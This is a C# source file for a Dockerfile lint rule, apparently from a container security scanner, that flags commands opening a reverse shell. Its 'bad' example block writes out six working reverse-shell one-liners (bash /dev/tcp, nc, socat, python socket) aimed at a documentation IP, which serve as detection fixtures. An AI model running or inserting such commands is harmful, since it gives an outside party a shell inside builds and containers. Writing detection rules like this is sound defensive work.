using System.Collections.Immutable;
using Gabion.Model;
using Gabion.Model.Container;

namespace Gabion.Rules.Container.Develop;

/// <summary>A command opens a shell to the network.</summary>
internal sealed class ReverseShell : Rule<Dockerfile>
{
    public override RuleCard Card { get; } = new()
    {
        Id = RuleId.Parse("GBN-CON-081"),
        Title = "A command opens a shell to the network",
        Severity = Severity.Critical,
        Stage = Stage.Develop,
        Why = "Whoever is at the other end has a shell in the build or the container.",
        Fix = "Remove it, and find out who put it there.",
        References = ["https://attack.mitre.org/techniques/T1059/004/"],
        Controls = [new("MITRE-ATTACK", "T1059.004", ControlCoverage.Partial)],
    };

    public override ImmutableArray<Example> Examples =>
    [
        Example.Bad("Dockerfile", """
            FROM debian:12.8
            RUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <--
            RUN mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f <--
            RUN exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5 2>&5 <--
            CMD ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"] <--
            ENTRYPOINT socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444 <--
            RUN python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])' <--
            """),
        Example.Good("Dockerfile", """
            FROM debian:12.8
            HEALTHCHECK CMD bash -c 'exec 3<>/dev/tcp/localhost/8085 && echo -e "GET /health HTTP/1.1\r\n" >&3 && grep OK <&3'
            RUN nc -z db 5432 && socat TCP-LISTEN:80,fork TCP:web:80 && (echo > /dev/tcp/db/5432) && python3 -c 'import socket; print(socket.gethostname())'
            RUN bash -c '</dev/tcp/localhost/80' && timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'
            """),
    ];

    public override IEnumerable<Problem> Check(Dockerfile file) =>
        from invocation in Invocations.All(file)
        where RemoteControl.IsReverseShell(invocation.Words, invocation.Command)
        select invocation.Problem($"{invocation.Instruction.Keyword} opens a shell to the network with {invocation.Program}");
}
